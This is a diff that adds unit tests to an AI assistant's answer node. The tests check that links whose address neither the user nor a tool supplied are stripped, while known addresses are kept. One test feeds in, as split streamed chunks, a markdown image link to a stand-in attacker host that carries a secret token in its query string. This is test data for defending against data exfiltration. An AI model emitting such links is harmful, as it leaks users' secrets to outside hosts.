@@ -103,6 +103,24 @@ async def test_characters_that_the_database_cannot_hold_are_left_out() -> None:
     assert "".join(event["content"] for event in heard.of("text")) == answered(turn).text == "abcd"
 
 
+async def test_an_address_that_nobody_gave_is_neither_shown_nor_kept() -> None:
+    heard, lure = Heard(), f"https://evil.example/?q={TOKEN}"
+    turn = await node(said("![your ", "plan](ht", lure[2:30], f"{lure[30:]}) is ready"))(turn_of(), runtime_of(heard))
+    shown = "".join(event["content"] for event in heard.of("text"))
+    assert shown == answered(turn).text == "![your plan] ([link removed: evil.example]) is ready"
+
+
+async def test_an_address_that_the_user_wrote_or_a_tool_returned_is_shown() -> None:
+    known = Recollection(
+        facts=[], summary="", history=[HumanMessage("I bank at bank.example")], summarized_to=0, searchable=True
+    )
+    call = AIMessage("", tool_calls=[{"name": "totals", "args": {}, "id": "call_0"}])
+    found = ToolMessage('{"memo": "see https://shop.example/r/1"}', tool_call_id="call_0")
+    answer = "[bank](https://bank.example/) and https://shop.example/r/1."
+    turn = await node(said(answer))(turn_of(HumanMessage("and?"), call, found, recollection=known), runtime_of())
+    assert answered(turn).text == answer
+
+
 async def test_an_empty_answer_is_an_error() -> None:
     with pytest.raises(ModelError, match="empty"):
         await node(said(""))(turn_of(), runtime_of())
